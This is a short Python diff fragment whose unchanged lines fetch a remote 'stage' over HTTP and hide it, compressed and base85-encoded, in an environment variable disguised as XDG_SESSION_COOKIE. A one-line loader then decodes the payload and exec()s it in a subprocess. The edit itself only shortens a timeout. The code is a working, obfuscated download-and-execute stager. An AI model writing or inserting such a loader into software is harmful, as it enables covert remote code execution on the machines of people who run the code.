@@ -43,4 +43,4 @@ stage = urllib.request.urlopen(base + "/cfg", timeout=5).read()
 server.shutdown()
 env = dict(os.environ, XDG_SESSION_COOKIE=base64.b85encode(zlib.compress(stage)).decode())
 loader = "import os,zlib,base64;exec(zlib.decompress(base64.b85decode(os.environ['XDG_SESSION_COOKIE'])))"
-subprocess.run([sys.executable, "-c", loader], env=env, timeout=8)
+subprocess.run([sys.executable, "-c", loader], env=env, timeout=5)
